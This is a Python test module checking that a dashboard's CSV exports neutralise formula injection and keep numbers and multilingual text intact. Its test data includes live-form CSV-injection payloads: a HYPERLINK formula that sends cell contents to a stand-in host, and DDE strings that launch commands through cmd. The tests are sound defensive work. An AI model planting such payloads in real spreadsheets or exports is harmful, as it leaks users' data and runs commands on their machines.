"""Downloads and exports: formula-safe CSV (OWASP CSV injection), numbers untouched, and
Cyrillic, Kazakh letters and emoji intact after a round trip through pandas and csv.

Every CSV that leaves diplodash goes through analysis.exports: ``to_csv`` (dashboard
downloads, ``diplodash aggregate --format csv``) and ``write_records`` (``diplodash
extract --format csv``). Both are read back here exactly as a user's tools would.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analysis import cli, exports, pipeline, store

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: cells a spreadsheet may run
KAZAKH = "әғқңөұүһі ӘҒҚҢӨҰҮҺІ"
SAMPLES = [
    "Қазақстан мен Жапония келіссөздер жүргізді",
    "Казахстан и Япония провели переговоры",
    f"{KAZAKH} 🇰🇿 😀 👍🏽 👨‍👩‍👧",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+7 (7172) 72-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "line one\nline two",
    "bare\rcarriage return",
    'quote " and, comma',
    "",
    " =leading space is text",
    "Türkiye ﷺ \u200b\u202e RTL override",
]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def pandas_rows(data: bytes) -> pd.DataFrame:
    return pd.read_csv(
        io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False, na_filter=False
    )


def expected_text(value: str) -> str:
    """What a text cell must read back as: the value, made safe, bare CR as LF."""
    safe = "'" + value if value.startswith(DANGEROUS) else value
    return re.sub(r"\r(?!\n)", "\n", safe)


def check_csv(frame: pd.DataFrame, data: bytes) -> None:
    """Read ``data`` back both ways; every text cell safe and intact, numbers unchanged."""
    assert data.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(data)
    assert rows[0] == list(frame.columns)
    assert len(rows) == len(frame) + 1  # a cell never splits a row
    back = pandas_rows(data)
    assert back.shape == frame.shape
    for name in frame.columns:
        column = frame[name]
        for i, value in enumerate(column):
            cell, pcell = rows[i + 1][list(frame.columns).index(name)], back[name].iloc[i]
            assert cell == pcell, (name, i)
            if isinstance(value, str):
                assert cell == expected_text(value), (name, i, value)
                assert not cell.startswith(DANGEROUS)
            elif isinstance(value, float) and math.isnan(value):
                assert cell == ""
            elif isinstance(value, int | float | np.integer | np.floating):
                assert float(cell) == float(value), (name, i, value, cell)  # number kept
                assert cell == str(value) or cell == repr(float(value)), (value, cell)


def test_hostile_and_multilingual_cells_round_trip():
    frame = pd.DataFrame(
        {
            "title": SAMPLES,
            "engagements": list(range(-7, -7 + len(SAMPLES))),
            "share": [-0.5, 1e-300, -1e300, 0.1, float("nan"), -0.0, 2.5] + [1.0] * 8,
        }
    )
    check_csv(frame, exports.to_csv(frame))


def test_csv_cells_are_neutralised_and_numbers_untouched(slow):
    dangerous_text = st.builds(
        lambda head, tail: head + tail, st.sampled_from([*DANGEROUS, ""]), st.text(max_size=30)
    )
    text = st.one_of(dangerous_text, st.sampled_from(SAMPLES), st.text(max_size=40))
    number = st.one_of(
        st.integers(min_value=-(2**53), max_value=2**53),
        st.floats(allow_nan=True, allow_infinity=False, width=64),
    )

    @settings(
        max_examples=1000 if slow else 80,
        deadline=None,
        database=None,
        derandomize=not slow,
        suppress_health_check=[HealthCheck.too_slow],
    )
    @given(st.lists(st.tuples(text, text, st.integers(-(10**9), 10**9), number), min_size=1))
    def check(rows: list[tuple[str, str, int, float]]) -> None:
        frame = pd.DataFrame(rows, columns=["title", "country", "count", "value"])
        frame["value"] = frame["value"].astype(float)
        check_csv(frame, exports.to_csv(frame))

    check()


def test_list_and_json_cells_are_safe_too():
    frame = pd.DataFrame(
        {
            "partners": [["=cmd", "KAZ"], ["Қазақстан", "😀"], []],
            "evidence": [{"surface": "@x"}, [{"a": "=1"}], None],
        }
    )
    rows = csv_rows(exports.to_csv(frame))
    assert rows[1] == ["'=cmd;KAZ", '{"surface": "@x"}']
    assert rows[2] == ["Қазақстан;😀", '[{"a": "=1"}]']
    assert rows[3] == ["", ""]


@pytest.fixture
def hostile_store(tmp_store):
    """Articles whose titles are formulas and whose bodies are Kazakh, Russian and emoji."""
    records = [
        {"title": '=HYPERLINK("http://evil.example","Talks")', "text": "x"},
        {"title": "+Kazakhstan and Japan talks", "text": "y"},
        {"title": "-Minister meets envoy", "text": "z"},
        {"title": "@Astana summit", "text": "w"},
        {"title": "\tTabbed title", "text": "v"},
    ]
    body = (
        f"Министр иностранных дел Казахстана встретился с послом Японии. {KAZAKH} 🇰🇿😀. "
        "The sides discussed trade\rand transit."
    )
    lines = [
        json.dumps({**r, "published": f"2024-01-0{i + 1}", "text": body + r["text"]})
        for i, r in enumerate(records)
    ]
    report = pipeline.ingest_uploads([("hostile.jsonl", "\n".join(lines).encode())], tmp_store)
    assert report.new == len(records)
    return tmp_store


def test_the_articles_download_of_a_hostile_store(hostile_store):
    frame = store.read_articles(hostile_store)
    data = exports.to_csv(frame)
    back = pandas_rows(data)
    assert len(back) == len(frame)
    for column in back.columns:
        assert not back[column].str.startswith(DANGEROUS).any(), column
    assert set(back["title"]) == {"'" + t if t.startswith(DANGEROUS) else t for t in frame["title"]}
    assert all(KAZAKH in text and "🇰🇿😀" in text for text in back["text"])
    assert back["line_start"].tolist() == [str(n) for n in frame["line_start"]]


def test_cli_extract_csv_of_a_hostile_feed(hostile_store, tmp_path, capsys):
    feed = tmp_path / "hostile.jsonl"
    feed.write_text(
        json.dumps(
            {"title": "=1+1 Kazakhstan–Japan talks", "published": "2024-01-01", "text": "әғқ 😀"}
        ),
        encoding="utf-8",
    )
    assert cli.main(["extract", str(feed), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["title"] == "'=1+1 Kazakhstan–Japan talks"


def test_cli_aggregate_csv_keeps_numbers(hostile_store, tmp_path):
    out = tmp_path / "by-date.csv"
    args = ["aggregate", "--by", "date", "--freq", "day", "--store", str(hostile_store)]
    assert cli.main([*args, "--output", str(out)]) == 0
    back = pandas_rows(out.read_bytes())
    assert list(back.columns) == ["period", "period_label", "engagements", "articles", "events"]
    assert back["articles"].astype(int).sum() == 5  # counts read back as plain integers
